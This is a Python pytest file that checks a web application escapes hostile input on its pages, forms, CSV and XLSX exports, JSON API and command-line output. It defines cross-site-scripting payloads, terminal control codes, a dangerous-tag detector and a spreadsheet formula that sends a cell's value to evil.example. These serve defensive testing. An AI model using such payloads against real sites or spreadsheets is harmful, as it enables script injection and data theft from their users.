"""Text that would be markup, script, formula or control code, wherever people can put it."""

import csv
import io
import json
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest
from bs4 import BeautifulSoup

from tests.integration.loopback import SITES, Loopback
from tests.integration.serving import Serving, Visitor

MARKUP = "\"><script>alert(1)</script><img src=x onerror=alert(2)>'{{1234567*3}}"
ENDING = "</title></textarea></style></bdi><svg onload=alert(3)>&lt;b&gt;"
CODES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\u2066\ufeff"
COMPANY = f"{MARKUP}{CODES}"
ROLE = f"{ENDING} \x1b[31m"
VALUE = "<b onmouseover=alert(4)>31</b>"
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"look")'
HEADING = "<script>alert(5)</script>"
QUOTED = FORMULA.replace('"', '""')
LIST = f'{HEADING},company,p15,p16\n"{QUOTED}",+1-2,a,b\n@SUM(1),-3,c,a\n'
PROGRAM = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


class Kept(NamedTuple):
    """A server on which everything has a hostile name, and the pages that show it."""

    server: Serving
    visitor: Visitor
    result: str
    compared: str
    lists: dict[str, str]
    pages: list[str]


@pytest.fixture(scope="module")
def kept(
    tmp_path_factory: pytest.TempPathFactory, example_answers: dict[str, str]
) -> Iterator[Kept]:
    folder = tmp_path_factory.mktemp("hostile")
    with (
        Loopback(hostile_site(folder / "site")) as site,
        Serving(folder, "--allow-address", site.authority) as server,
        Visitor(server.url) as visitor,
    ):
        scan = visitor.scan(site.origin, pages=8, company=COMPANY)
        lists = {
            ending: visitor.send_list(f"{HEADING}.csv", LIST, format=ending)
            for ending in (".csv", ".xlsx")
        }
        result = visitor.result(COMPANY, example_answers, ROLE)
        other = visitor.result(COMPANY, {**example_answers, "P01": "c"}, f"{ROLE} 2")
        begun = visitor.begin(COMPANY, "begun")
        visitor.answer(begun, {"P01": "a"})
        step = json.loads(visitor.get(f"{result}/file").content)["plan"]["steps"][0]["id"]
        record = {"play": step, "value": VALUE, "note": MARKUP, "on": MARKUP}
        refused = visitor.post(f"{result}/progress", record)
        assert refused.status_code == 422
        recorded = visitor.post(f"{result}/progress", record | {"on": ""})
        assert recorded.status_code == 200, recorded.text
        website = visitor.wait_for(scan, "/results/").url.path
        compared = "&".join(f"id={each.rpartition('/')[2]}" for each in (result, other))
        for path in lists.values():
            visitor.wait_for(f"{path}/scored", path)
        pages = [
            "/",
            "/lists",
            "/compare",
            f"{begun}/P02",
            f"{begun}/overview",
            f"{begun}/aside",
            result,
            f"{result}/report",
            f"{result}/progress",
            f"{result}/remove",
            f"/scan?result={result.rpartition('/')[2]}",
            website,
            f"{website}/report",
            f"/compare/report?{compared}",
            f"/compare/report.html?{compared}",
            lists[".csv"],
            f"{lists['.csv']}/report",
            f"/questionnaire?company={MARKUP}",
            f"/compare?id={MARKUP}&as={MARKUP}",
            f"/{MARKUP}",
            f"/results/{MARKUP}",
        ]
        yield Kept(server, visitor, result, compared, lists, pages)


def hostile_site(folder: Path) -> Path:
    """Return a website whose pages say what would be markup where it were not escaped."""
    shutil.copytree(SITES / "sparrowgate", folder)
    said = MARKUP.replace("<", "&lt;").replace(">", "&gt;")
    for page in folder.rglob("*.html"):
        text = (
            page.read_text()
            .replace("</title>", f" {said}</title>")
            .replace("</h1>", f" {said}</h1>")
        )
        page.write_text(text.replace(". ", f". {said} ").replace("<a ", f'<a title="{said}" '))
    return folder


def test_it_is_text_on_every_page(kept: Kept) -> None:
    shown = 0
    for path in kept.pages:
        answer = kept.visitor.get(path)
        assert answer.headers["content-type"].startswith("text/html"), path
        assert inert(answer.text) == [], path
        assert not PROGRAM.search(answer.text), path
        assert "3703701" not in answer.text, path
        shown += "onerror=alert" in answer.text
    assert shown > 12, "the text is there, to be seen"


def test_forms_that_come_back_hold_it_as_text(kept: Kept) -> None:
    for path, fields in (
        ("/questionnaire", {"company": COMPANY, "role": MARKUP * 9}),
        ("/questionnaire", {"company": COMPANY, "role": ROLE}),
        ("/scan", {"address": MARKUP, "company": MARKUP, "pages": MARKUP}),
        ("/scan", {"address": f"http://{ENDING}/", "company": COMPANY}),
        (f"{kept.result}/progress", {"play": MARKUP, "value": MARKUP}),
        (f"{kept.result}/progress", {"play": "", "value": MARKUP * 200}),
        (f"{kept.lists['.csv']}/anew", {"column": MARKUP, "pages": MARKUP, "format": MARKUP}),
    ):
        answer = kept.visitor.post(path, fields)
        assert answer.status_code < 500, path
        assert inert(answer.text) == [], path


def inert(page: str) -> list[str]:
    """Return what in a page could do something that its own templates do not."""
    found = []
    for element in BeautifulSoup(page, "html5lib").find_all(True):
        tag = element.name
        if tag in ("script", "iframe", "object", "embed", "img", "base", "frame"):
            own = str(element.get("src", "")).startswith("/static/")
            found += [] if tag == "script" and own else [f"<{tag}>"]
        for name, value in element.attrs.items():
            if name.startswith("on"):
                found.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction", "xlink:href") and re.match(
                r"\s*(javascript|data|vbscript):", str(value), re.IGNORECASE
            ):
                found.append(f"{tag} {name}={value}")
    return found


def test_the_check_finds_what_is_not_inert() -> None:
    page = f'<p>{MARKUP}<a href="javascript:x">x</a><iframe></iframe>'
    assert len(inert(page)) == 5


def test_documents_are_handed_out_as_what_they_are(kept: Kept) -> None:
    for path, kind in (
        (f"{kept.result}/file", "application/json"),
        (f"{kept.result}/report", "text/html"),
        (f"/compare/report.json?{kept.compared}", "application/json"),
        (f"/compare/report.html?{kept.compared}", "text/html"),
        (f"{kept.lists['.csv']}/scored", "text/csv"),
        (f"{kept.lists['.csv']}/report?download", "text/html"),
    ):
        answer = kept.visitor.get(path)
        assert answer.headers["content-type"].startswith(kind)
        assert answer.headers["content-disposition"].startswith("attachment; filename")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "<script" not in answer.headers["content-disposition"]
        if kind == "application/json":
            json.loads(answer.content)


def test_what_is_added_to_a_list_holds_no_formula(kept: Kept) -> None:
    """A list's own cells come back as they were; in a workbook they are text."""
    text = kept.visitor.get(f"{kept.lists['.csv']}/scored").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == HEADING
    assert [row[:2] for row in rows[1:]] == [[FORMULA, "+1-2"], ["@SUM(1)", "-3"]]
    assert [cell for row in rows for cell in row[4:] if cell.startswith(FORMULAS)] == []
    book = kept.visitor.get(f"{kept.lists['.xlsx']}/scored").content
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheets = [archive.read(each) for each in archive.namelist() if "worksheets/" in each]
        assert not any("externalLink" in each or "hyperlink" in each for each in archive.namelist())
    assert sheets
    for sheet in sheets:
        assert b"<f>" not in sheet
        assert b"<hyperlink" not in sheet


def test_a_terminal_gets_no_control_codes(kept: Kept) -> None:
    desk = kept.server.desk
    results = sorted(map(str, (desk.home / "results").glob("*.json")))
    for command in (["report", results[0]], ["plan", results[0]], ["compare", *results[:2]]):
        for options in ((), ("--json",)):
            done = desk.run(*command, *options)
            assert not PROGRAM.search(done.out + done.err), command
    assert not PROGRAM.search(kept.server.err)


def test_programs_get_it_as_json(kept: Kept) -> None:
    answer = kept.visitor.client.post(
        "/api/v1/classify",
        json={"answers": {"P01": "a"}, "company": MARKUP},
        headers={"Authorization": f"Bearer {kept.server.token}"},
    )
    assert answer.headers["content-type"] == "application/json"
    assert answer.json()["company"] == MARKUP
    wrong = kept.visitor.client.post(
        "/api/v1/classify",
        json={"answers": {MARKUP: MARKUP}},
        headers={"Authorization": f"Bearer {kept.server.token}"},
    )
    assert wrong.status_code == 422
    assert wrong.headers["content-type"] == "application/json"
    assert len(wrong.json()["error"].splitlines()) == 1
